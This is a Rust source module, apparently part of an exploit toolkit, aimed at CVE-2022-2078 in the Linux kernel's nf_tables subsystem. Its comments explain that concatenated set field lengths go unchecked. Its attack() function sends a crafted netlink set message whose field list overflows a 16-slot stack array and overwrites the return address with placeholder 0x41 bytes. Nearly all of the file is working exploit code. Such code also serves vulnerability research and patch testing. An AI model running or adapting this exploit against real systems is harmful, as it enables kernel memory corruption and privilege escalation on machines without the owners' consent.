//! CVE-2022-2078: the lengths of a concatenation's fields are collected without a look at how many
//! there are. The 17th overwrites the count of them itself, which says where the next ones go.

use std::io;

use crate::{attribute::Attributes, netlink::Batch, nft};

const TABLE: &str = "otf_fields";
/// Fields that there is room for.
const ROOM: usize = 16;
/// Bytes from the first length to the return address of the function that has them on its stack.
const RETURN_ADDRESS: u8 = 200;

/// A table.
pub fn setup() -> io::Result<()> {
    Batch::new()
        .add(
            libc::NFT_MSG_NEWTABLE,
            nft::IP,
            nft::CREATE,
            &nft::table(TABLE),
        )
        .send()
}

/// A set that is refused in the end: the function returns, and not to where it came from.
pub fn attack() -> io::Result<()> {
    let mut lengths = vec![4; ROOM];
    lengths.extend([RETURN_ADDRESS, 0x41, 0x41, 0x41, 0x41]);
    let fields = lengths.iter().fold(Attributes::new(), |fields, length| {
        fields.nest(1, &Attributes::new().number(1, u32::from(*length)))
    });
    let description = Attributes::new().nest(2, &fields);
    let set =
        nft::set(TABLE, "fields", nft::SET_INTERVAL | nft::SET_CONCAT, 16, 1).nest(9, &description);
    Batch::new()
        .add(libc::NFT_MSG_NEWSET, nft::IP, nft::CREATE, &set)
        .send()
}
